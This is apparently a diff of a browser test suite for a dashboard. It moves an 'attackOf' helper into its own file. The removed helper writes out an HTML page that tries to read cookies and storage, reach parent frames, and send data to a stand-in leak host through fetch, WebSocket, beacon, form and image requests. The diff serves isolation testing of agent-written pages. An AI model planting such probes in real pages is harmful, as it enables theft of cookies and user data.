@@ -6,6 +6,7 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Browser, FrameLocator, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { attackOf } from './attack.ts';
 import { accessible, CHROMIUM, launch, opened, WITHOUT } from './browser.ts';
 import { ADMIN, type AppStage, startStage, text, use } from './stage.ts';
 
@@ -18,26 +19,6 @@ const VISIBLE = { timeout: 20_000 };
 
 type Styles = { getComputedStyle: (of: unknown) => { color: string } };
 const colorOf = (element: unknown): string => (globalThis as unknown as Styles).getComputedStyle(element).color;
-
-/** What a page that an agent wrote tries, and writes down. */
-const attackOf = (
-  leak: string,
-) => `<!doctype html><link rel="stylesheet" href="style.css"><h1>Owls</h1><pre id="told"></pre>
-<img src="${leak}/picture"><form id="f" action="${leak}/form" method="post"></form><iframe src="${leak}/frame"></iframe>
-<script>
-const told = [];
-const tries = {
-  parent: () => parent.document.title, top: () => { top.location = '${leak}/top'; }, storage: () => sessionStorage.length, local: () => localStorage.length,
-  cookie: () => document.cookie, opener: () => window.open('${leak}/open').focus(), form: () => { document.getElementById('f').submit(); throw new Error('stayed'); },
-};
-for (const [name, go] of Object.entries(tries)) { try { go(); told.push(name + ' WENT'); } catch { told.push(name + ' refused'); } }
-const asked = [fetch('${leak}/fetch'), fetch('/v1/budget'), new Promise((go, no) => { const s = new WebSocket('${leak}'.replace('http', 'ws')); s.onopen = go; s.onerror = no; })];
-Promise.allSettled(asked).then((all) => {
-  all.forEach((one, i) => told.push('ask ' + i + (one.status === 'fulfilled' ? ' WENT' : ' refused')));
-  navigator.sendBeacon('${leak}/beacon', 'x');
-  document.getElementById('told').textContent = told.join('\\n');
-});
-</script>`;
 
 describe.skipIf(!CHROMIUM)(CHROMIUM ? 'the dashboard' : `the dashboard (${WITHOUT})`, () => {
   let stage: AppStage;
